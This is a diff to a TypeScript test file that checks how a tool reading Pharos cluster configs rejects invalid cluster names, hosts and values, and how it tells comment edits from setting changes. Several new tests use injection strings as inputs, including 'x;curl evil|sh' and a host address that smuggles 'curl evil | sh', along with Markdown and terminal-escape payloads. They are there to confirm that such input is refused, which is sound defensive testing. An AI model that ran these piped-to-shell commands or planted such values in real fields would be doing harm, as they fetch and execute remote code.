@@ -1,6 +1,6 @@
 import { PHAROS_DEFAULT_POD_NETWORK_CIDR, PHAROS_DEFAULT_SERVICE_CIDR } from '../src/mesh/pharos-defaults';
 import * as path from 'path';
-import { clustersOf, damagedClusterFiles, hostsIn, meshStateOf, passwordIn, recordsOf, sameSettings, stateFromLines } from '../src/output/plan-state';
+import { clustersOf, damagedClusterFiles, hostsIn, meshStateOf, passwordIn, plainValue, recordsOf, sameSettings, stateFromLines } from '../src/output/plan-state';
 import { readTree, REPO } from './helpers';
 
 const file = (cluster: string) => `${cluster}/pharos/cluster.yml`;
@@ -17,6 +17,13 @@ describe('reading a rendered tree\'s state', () => {
     expect([...clustersOf(tree)]).toEqual(['cluster-a']);
   });
 
+  it('takes only a folder named as a cluster (a DNS-1123 label) for one: its name goes into commands and Markdown', () => {
+    // A base commit's output folder arrives in a pull request: a folder named like a shell command or
+    // Markdown is a file that differs, never a cluster whose teardown and rmpeer the next steps print.
+    const names = ['x;curl evil|sh', 'x`@octocat', 'Upper', '-a', 'a-', 'a'.repeat(64), 'a b'];
+    expect([...clustersOf(new Map([...names, 'cluster-z', 'a'.repeat(63)].map((name) => [file(name), config('10.33.0.0/16')])))]).toEqual(['cluster-z', 'a'.repeat(63)]);
+  });
+
   it('reads subnet, pod network, service CIDR and peers, with Pharos\'s defaults from their one home', () => {
     const state = meshStateOf(new Map([[file('cluster-a'), config('10.33.0.0/16')]]));
     expect(state.get('cluster-a')).toEqual({ subnet: '10.33.0.0/16', podNetworkCidr: PHAROS_DEFAULT_POD_NETWORK_CIDR, serviceCidr: PHAROS_DEFAULT_SERVICE_CIDR, peers: ['198.51.100.11'] });
@@ -24,10 +31,23 @@ describe('reading a rendered tree\'s state', () => {
     expect(recordsOf(new Map([[file('cluster-a'), config('10.33.0.0/16', '  pod_network_cidr: 10.0.0.0/8\n')]])).get('cluster-a')).toEqual({ subnet: '10.33.0.0/16', podNetworkCidr: '10.0.0.0/8' });
   });
 
+  it('shows a parsed value that is no address or CIDR as a digest: a base\'s text reaches neither log nor Markdown', () => {
+    const content = config('"10.34.0.0/16` <details> @octocat | x"').replace('      - 198.51.100.11\n', '      - "\\e[31mRED"\n      - 198.51.100.11\n');
+    const state = meshStateOf(new Map([[file('b'), content]])).get('b')!;
+    expect(state.subnet).toMatch(/^invalid-[0-9a-f]{12}$/);
+    expect(state.peers).toEqual([expect.stringMatching(/^invalid-[0-9a-f]{12}$/), '198.51.100.11']);
+    expect(plainValue('10.34.0.0/16')).toBe('10.34.0.0/16');
+    expect(plainValue('node-1.example')).toBe('node-1.example');
+    expect(plainValue('a`b')).not.toBe(plainValue('a`c'));
+  });
+
   it('lists a cluster\'s hosts, masters too, and its password file, as its cluster.yml does', () => {
     const tree = new Map([[file('cluster-a'), config('10.33.0.0/16').replace('  weave:\n', '  weave:\n    password: ../../../clusters/shared_password\n')]]);
     expect(hostsIn(tree, 'cluster-a')).toEqual([{ address: '192.0.2.10', role: 'master' }, { address: '192.0.2.11', role: 'worker' }]);
     expect(hostsIn(new Map(), 'cluster-a')).toEqual([]);
+    // Hosts Pharos would refuse never ran; their text (a base's, from a pull request) reaches no command.
+    const odd = config('10.33.0.0/16').replace('hosts:\n', 'hosts:\n  - address: "a> ; curl evil | sh ; <b"\n    role: worker\n  - address: 192.0.2.9\n    role: "<details>"\n');
+    expect(hostsIn(new Map([[file('cluster-a'), odd]]), 'cluster-a')).toEqual([{ address: '192.0.2.10', role: 'master' }, { address: '192.0.2.11', role: 'worker' }]);
     expect(passwordIn(tree, 'cluster-a')).toBe('../../../clusters/shared_password');
   });
 
@@ -36,6 +56,19 @@ describe('reading a rendered tree\'s state', () => {
     expect(sameSettings(before, 'a', new Map([[file('a'), `# from a.yaml\n${config('10.33.0.0/16')}`]]), 'a')).toBe(true);
     expect(sameSettings(before, 'a', new Map([[file('z'), config('10.33.0.0/16')]]), 'z')).toBe(true);
     expect(sameSettings(before, 'a', new Map([[file('a'), config('10.33.0.0/16').replace('198.51.100.11', '198.51.100.12')]]), 'a')).toBe(false);
+  });
+
+  it('tells a change of end-of-line comments from a change of settings, unless a quote may hold the #', () => {
+    // The inventory's own comments are copied into the rendered file: rewording one asks for no pharos up.
+    const commented = (comment: string) => new Map([[file('a'), config('10.33.0.0/16').replace('ipalloc_default_subnet: 10.33.0.0/16', `ipalloc_default_subnet: 10.33.0.0/16 ${comment}`)]]);
+    expect(sameSettings(commented("# this cluster's own subnet"), 'a', commented('# the subnet of cluster A'), 'a')).toBe(true);
+    expect(sameSettings(commented('# a comment'), 'a', new Map([[file('a'), config('10.33.0.0/16')]]), 'a')).toBe(true);
+    expect(sameSettings(commented('# a comment'), 'a', new Map([[file('a'), config('10.34.0.0/16')]]), 'a')).toBe(false);
+    // Inside quotes, ` #` is text: a change there is a change of settings.
+    const quoted = (text: string) => new Map([[file('a'), `name: "mesh #${text}"\n${config('10.33.0.0/16')}`]]);
+    expect(sameSettings(quoted('1'), 'a', quoted('2'), 'a')).toBe(false);
+    const multiline = (text: string) => new Map([[file('a'), `name: "mesh\n  two #${text}\n  three"\n${config('10.33.0.0/16')}`]]);
+    expect(sameSettings(multiline('1'), 'a', multiline('2'), 'a')).toBe(false);
   });
 
   it('reads a file laid out as synth writes it as lines, exactly as a full parse reads it', () => {
